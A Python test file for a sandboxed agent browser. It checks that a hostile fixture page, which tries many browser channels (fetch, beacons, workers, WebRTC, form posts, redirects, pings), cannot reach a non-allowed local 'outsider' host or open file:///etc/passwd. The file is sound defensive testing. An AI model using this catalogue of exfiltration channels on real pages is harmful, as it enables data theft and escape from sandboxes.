"""Nothing that a page does reaches a host that is not allowed."""

from __future__ import annotations

from http.server import BaseHTTPRequestHandler

from local_pages import Outsider, Pages, do, texts

from grokputer.runners.environments.web.environment import Browse

EVERY_WAY = """<title>Hostile</title>
<link rel="dns-prefetch" href="{out}/dns"><link rel="preconnect" href="{out}"><link rel="prefetch" href="{out}/prefetch">
<link rel="modulepreload" href="{out}/module.js"><link rel="stylesheet" href="{out}/style.css">
<script src="{out}/script.js"></script>
<script type="speculationrules">
{{"prerender":[{{"urls":["{out}/prerender"]}}],"prefetch":[{{"urls":["{out}/speculation"]}}]}}</script>
<img src="{out}/image"><iframe src="{out}/frame"></iframe><object data="{out}/object"></object><video src="{out}/video"></video>
<iframe srcdoc="<meta http-equiv=refresh content='0;url={out}/refresh'>"></iframe><iframe src="/redirect"></iframe>
<iframe src="data:text/html,<img src='{out}/in-data'>"></iframe><iframe src="file:///etc/passwd"></iframe>
<form id="form" action="{out}/form" method="post" target="inner"><input name="secret" value="1"></form>
<iframe name="inner"></iframe>
<p>done</p><script>
const out = "{out}", quiet = (promise) => promise.catch(() => 0), attempt = (f) => {{ try {{ f() }} catch (e) {{ }} }};
quiet(fetch(out + "/fetch", {{ mode: "no-cors", method: "POST", body: "x" }}));
quiet(fetch("/redirect-fetch", {{ mode: "no-cors" }}));
attempt(() => navigator.sendBeacon(out + "/beacon", "x"));
attempt(() => new WebSocket("ws://{place}/socket"));
attempt(() => new EventSource(out + "/events"));
attempt(() => new Worker(URL.createObjectURL(new Blob(["fetch('" + out + "/worker',{{mode:'no-cors'}})"]))));
attempt(() => new SharedWorker("data:text/javascript,fetch('" + out + "/shared',{{mode:'no-cors'}})"));
attempt(() => quiet(navigator.serviceWorker.register("/service.js")));
attempt(() => {{ const pc = new RTCPeerConnection({{ iceServers: [{{ urls: "stun:{place}" }},
  {{ urls: "turn:{place}?transport=tcp", username: "a", credential: "b" }}] }});
  pc.createDataChannel("x"); pc.createOffer().then((offer) => pc.setLocalDescription(offer)); }});
attempt(() => quiet(new WebTransport("https://{place}/").ready));
attempt(() => form.submit());
attempt(() => window.open(out + "/popup"));
</script><a href="{out}/link">link out</a> <button onclick="window.open('{out}/opened')">open out</button>
<a href="{out}/file" download>file out</a> <a href="file:///etc/passwd">local file</a>
<a href="{out}/pinged" ping="{out}/ping">ping</a>
<form action="{out}/posted" method="post"><button>post out</button></form>"""


def hostile(server: Pages, outsider: Outsider) -> str:
    """Set the server's pages; the URL of the outsider."""
    out = f"http://127.0.0.1:{outsider.port}"

    def redirect(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(302)
        handler.send_header("Location", f"{out}/redirected")
        handler.send_header("Content-Length", "0")
        handler.end_headers()

    server.clear(index=EVERY_WAY.format(out=out, place=f"127.0.0.1:{outsider.port}"), redirect=redirect)
    server.pages["/redirect-fetch"] = redirect
    server.pages["/service.js"] = f"fetch('{out}/service', {{mode: 'no-cors'}})"
    return out


def test_no_way_out_of_a_hostile_page_reaches_a_host_that_is_not_allowed(
    browse: Browse, server: Pages, outsider: Outsider
) -> None:
    hostile(server, outsider)
    page = browse.reset(f"{server.url}/ Look around", 0)
    assert "p:done" in texts(page)
    assert [line for line in page.lines if line.startswith("refused:")]
    for text in ("link out", "open out", "post out", "ping"):
        page = do(browse, page, "CLICK", text)
        assert page.error.startswith(f"refused: 127.0.0.1:{outsider.port} is not one of the allowed hosts"), text
        assert "p:done" in texts(page), "the page is still there"
    for text in ("file out", "local file"):
        page = do(browse, page, "CLICK", text)
    page = browse.act("WAIT")
    assert outsider.reached == []
    assert "root:" not in "".join(page.lines)


def test_the_same_page_reaches_the_host_where_it_is_allowed(browse: Browse, server: Pages, outsider: Outsider) -> None:
    hostile(server, outsider)
    browse.reset(f"{server.url}/ +127.0.0.1:{outsider.port} Look around", 0)
    browse.act("WAIT")
    ways = {line.split(" ")[1] for line in outsider.reached if line.startswith(("GET", "POST"))}
    wanted = {"script.js", "style.css", "image", "frame", "fetch", "beacon", "worker", "service", "redirected", "form"}
    assert wanted <= {way.rpartition("/")[2] for way in ways}, "the page tries what the other test wants to be refused"


def test_an_address_is_opened_only_where_its_host_is_allowed(browse: Browse, server: Pages, outsider: Outsider) -> None:
    server.clear(index="<p>home", next="<p>next")
    page = browse.reset(f"{server.url}/ Go on", 0)
    page = do(browse, page, "TYPE", "address:", f"{server.url}/next")
    assert texts(page) == ["p:next"]
    for url, why in (
        (f"http://127.0.0.1:{outsider.port}/", "is not one of the allowed hosts"),
        ("https://example.org/", "is not one of the allowed hosts"),
        ("file:///etc/passwd", "is no page of the web"),
        ("chrome://settings", "is no page of the web"),
        ("data://text/html,hi", "is no page of the web"),
    ):
        page = do(browse, page, "TYPE", "address:", url)
        assert why in page.error
        assert texts(page) == ["p:next"]
    assert outsider.reached == []


def test_a_run_knows_nothing_of_the_run_before_it(browse: Browse, server: Pages) -> None:
    server.clear(
        index="<p id=p></p><script>p.textContent = 'kept: ' + document.cookie + localStorage.kept;"
        "document.cookie = 'a=1'; localStorage.kept = 1</script>"
    )
    first = browse.reset(f"{server.url}/ Look", 0)
    again = browse.reset(f"{server.url}/ Look", 0)
    assert texts(first) == texts(again) == ["p:kept: undefined"]


def test_what_the_browser_asks_by_itself_is_refused_and_is_no_line_of_the_page(browse: Browse, server: Pages) -> None:
    server.clear(
        index="<p>here<img src=http://connectivitycheck.gstatic.com/generate_204><img src=http://other.test/x>"
    )
    [_, line, *_] = browse.reset(f"{server.url}/ Look", 0).lines
    assert line.startswith("refused:other.test:80 is not one of") and "gstatic" not in line
